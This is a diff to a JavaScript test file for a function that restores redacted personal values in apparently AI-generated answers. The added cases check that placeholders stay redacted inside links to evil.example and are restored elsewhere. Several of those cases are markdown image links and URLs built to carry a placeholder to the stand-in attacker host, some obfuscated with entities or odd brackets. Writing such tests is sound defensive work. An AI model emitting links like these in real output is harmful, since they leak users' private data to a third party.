@@ -70,6 +70,12 @@ describe('an answer', () => {
     `url( //evil.example/${P} )`,
     `\\includegraphics{//evil.example/${P}}`,
     `![x](evil.example/?q='${P}')`,
+    `![x](https://evil.example/?q={"${P}"})`,
+    `![x](https://evil.example/?q={"a":"${'b'.repeat(3_000)}","c":"${P}"})`,
+    `see https://evil.example/?q=[{"a":1,"b":"${P}"}]`,
+    `!["](https://evil.example/?q=","${P}")`,
+    `!["](&#104;ttps&colon;//evil.example/?(q)=\\)","${P}")`,
+    `["]: https://evil.example/?q=","${P}"`,
   ])('keeps the placeholder in %s, however it is cut', (text) => {
     expect(restored(text)).toBe(text);
     for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
@@ -99,6 +105,12 @@ describe('an answer', () => {
     `\`https://nih.gov/a\`:${P}`,
     `{"text":"see https://nih.gov","name":"${P}","b":"nih.gov/x","c":["${P}"]}`,
     `see https://nih.gov/a\u00a0: ${P}`,
+    `{"text":"[see](https://nih.gov/(a))","name":"${P}"}`,
+    `[{"link":"https://nih.gov"},{"name":"${P}"}]`,
+    `see https://nih.gov/a {"name":"${P}"}`,
+    `fetch("https://nih.gov/a",{"name":"${P}"})`,
+    `[{"a":"${'b'.repeat(3_000)}","name":"${P}"}]`,
+    `Is it ${P}.pdf? Or ${P}.docx?`,
   ])('has the original everywhere else: %s', (text) => {
     expect(restored(text)).toBe(text.replaceAll(P, 'Jane'));
     expect(restored(text, 1)).toBe(text.replaceAll(P, 'Jane'));
